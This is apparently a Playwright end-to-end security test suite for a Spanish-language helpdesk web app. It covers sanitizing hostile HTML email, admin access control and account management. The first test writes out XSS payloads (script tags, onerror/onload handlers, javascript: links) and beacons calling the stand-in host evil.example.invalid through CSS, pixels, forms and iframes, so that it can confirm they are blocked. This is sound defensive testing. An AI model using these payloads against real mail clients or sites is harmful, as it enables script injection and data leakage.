import type { Browser, Page, Request } from 'playwright-core';
import { deliverByLmtp } from '../support/mail-server';
import { uniqueSinkRecipient } from '../support/smtp-sink';
import { waitFor } from '../support/test-app';
import { launchChromium, newContext, screenshot, signInThroughUi, startUiApp, UiApp } from './support/ui-app';

jest.setTimeout(120000);

const EVIL_HOST = 'evil.example.invalid';

/** A mail whose HTML tries everything: script, event handler, javascript: link, CSS that phones home, a form, an iframe. */
function hostileMail(from: string): string {
  const html = `<html><head><style>body{background:url(http://${EVIL_HOST}/css-body)} input[value^="a"]{background:url(http://${EVIL_HOST}/css-attr)}</style>
<script>alert('script-tag');console.log('script-ran')</script></head>
<body><p>Texto visible del correo hostil</p>
<img src="x" onerror="alert('onerror');console.log('onerror-ran')">
<img src="http://${EVIL_HOST}/pixel.gif" alt="pixel">
<a id="js-link" href="javascript:alert('js-link')">Haga clic aquí</a>
<div style="background-image:url(http://${EVIL_HOST}/inline-style)">con estilo</div>
<form action="http://${EVIL_HOST}/form"><input name="clave" value="abc"><button>Enviar</button></form>
<iframe src="http://${EVIL_HOST}/frame"></iframe>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
</body></html>`;
  return [
    `From: Atacante <${from}>`,
    'To: planeacionterritorial@dnp.gov.co',
    'Subject: Correo con HTML hostil',
    'Date: Tue, 16 Jan 2024 14:12:00 +0000',
    `Message-ID: <hostil-${Date.now()}@ejemplo.invalid>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
  ].join('\r\n');
}

describe('web UI security in Chromium', () => {
  let ui: UiApp;
  let browser: Browser;

  beforeAll(async () => {
    ui = await startUiApp('security');
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await ui?.close();
  });

  it('shows a hostile HTML mail without running anything or loading anything from outside', async () => {
    await deliverByLmtp(ui.mailboxes.planeacion, hostileMail(uniqueSinkRecipient('hostil')));
    const ticket = await waitFor(async () => (await ui.db.query(`SELECT reference FROM tickets WHERE subject = 'Correo con HTML hostil'`)).rows[0], (row) => row !== undefined, 15000);
    const agent = await ui.createAccount('agent');
    const page = await (await newContext(browser, ui.baseUrl)).newPage();
    const dialogs: string[] = [];
    const consoleMessages: string[] = [];
    const outside: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('console', (message) => consoleMessages.push(message.text()));
    page.on('request', (request: Request) => {
      if (!request.url().startsWith(ui.baseUrl) && !request.url().startsWith('data:') && !request.url().startsWith('about:')) outside.push(request.url());
    });
    await signInThroughUi(page, agent);
    await page.goto(`/tickets/${ticket.reference}`);
    const frameElement = page.locator('iframe[title="Contenido del correo: Correo con HTML hostil"]');
    await frameElement.waitFor();
    const sandbox = await frameElement.getAttribute('sandbox');
    expect(sandbox).not.toContain('allow-scripts');
    const frame = page.frameLocator('iframe[title="Contenido del correo: Correo con HTML hostil"]');
    await frame.getByText('Texto visible del correo hostil').waitFor();
    // Whatever got through the sanitizer is inert; check what the browser actually holds.
    const frameDom = await frame.locator('body').innerHTML();
    expect(frameDom).not.toMatch(/<script|onerror|onload|javascript:|<form|<iframe/i);
    expect(frameDom).not.toContain(EVIL_HOST);
    const link = frame.getByText('Haga clic aquí');
    if (await link.count()) await link.click();
    await page.waitForTimeout(1000);
    await screenshot(page, 'ticket-html-hostil');

    expect(dialogs).toEqual([]);
    expect(consoleMessages.filter((text) => /ran|alert/.test(text))).toEqual([]);
    expect(outside).toEqual([]);
    const policy = (await page.request.get('/')).headers()['content-security-policy'];
    expect(policy).toContain("script-src 'self'");
    expect(policy).toContain("frame-ancestors 'none'");
  });

  it('keeps agents out of the admin pages and lets supervisors in', async () => {
    const agent = await ui.createAccount('agent');
    const agentPage = await (await newContext(browser, ui.baseUrl)).newPage();
    await signInThroughUi(agentPage, agent);
    await expect(agentPage.getByRole('link', { name: 'Administración' }).count()).resolves.toBe(0);
    await agentPage.goto('/admin/buzones');
    await agentPage.getByRole('heading', { name: 'Sin acceso' }).waitFor();
    // Not only hidden: the API refuses them too.
    const apiStatus = await agentPage.evaluate(async () => (await fetch('/api/admin/mailboxes')).status);
    expect(apiStatus).toBe(403);
    await screenshot(agentPage, 'admin-agente-sin-acceso');

    const supervisor = await ui.createAccount('supervisor');
    const supervisorPage = await (await newContext(browser, ui.baseUrl)).newPage();
    await signInThroughUi(supervisorPage, supervisor);
    await supervisorPage.getByRole('link', { name: 'Administración' }).click();
    await supervisorPage.getByRole('heading', { name: 'Cuentas y roles' }).waitFor();
    await supervisorPage.getByRole('cell', { name: supervisor.email }).waitFor();
    await supervisorPage.getByRole('link', { name: 'Buzones' }).click();
    await supervisorPage.getByRole('cell', { name: /planeacionterritorial@dnp\.gov\.co/ }).first().waitFor();
  });

  it('lets an admin create, re-role and disable accounts from the accounts page', async () => {
    const admin = await ui.createAccount('admin', 'Ana Administradora');
    const page = await (await newContext(browser, ui.baseUrl)).newPage();
    await signInThroughUi(page, admin);
    await page.goto('/admin/cuentas');
    const form = page.getByRole('form', { name: 'Nueva cuenta' });
    await form.getByLabel('Nombre').fill('Pedro Nuevo');
    await form.getByLabel('Correo').fill('pedro.nuevo@dnp.gov.co');
    await form.getByLabel('Rol').selectOption('agent');
    await form.getByLabel(/Contraseña inicial/).fill('una contraseña bien larga');
    await form.getByRole('button', { name: 'Crear cuenta' }).click();
    await page.getByText('Cuenta creada para pedro.nuevo@dnp.gov.co.').waitFor();
    await page.getByLabel('Rol de pedro.nuevo@dnp.gov.co').selectOption('supervisor');
    await waitFor(async () => (await ui.db.query(`SELECT role FROM users WHERE email = 'pedro.nuevo@dnp.gov.co'`)).rows[0]?.role, (role) => role === 'supervisor', 5000);
    await page.getByRole('row').filter({ hasText: 'pedro.nuevo@dnp.gov.co' }).getByRole('button', { name: 'Deshabilitar' }).click();
    await page.getByRole('row').filter({ hasText: 'pedro.nuevo@dnp.gov.co' }).getByRole('button', { name: 'Habilitar' }).waitFor();
    const row = await waitFor(
      async () => (await ui.db.query(`SELECT role, disabled_at IS NOT NULL AS disabled FROM users WHERE email = 'pedro.nuevo@dnp.gov.co'`)).rows[0],
      (found) => found?.disabled === true,
      5000,
    );
    expect(row).toEqual({ role: 'supervisor', disabled: true });
    await screenshot(page, 'admin-cuentas-administrador');
  });
});
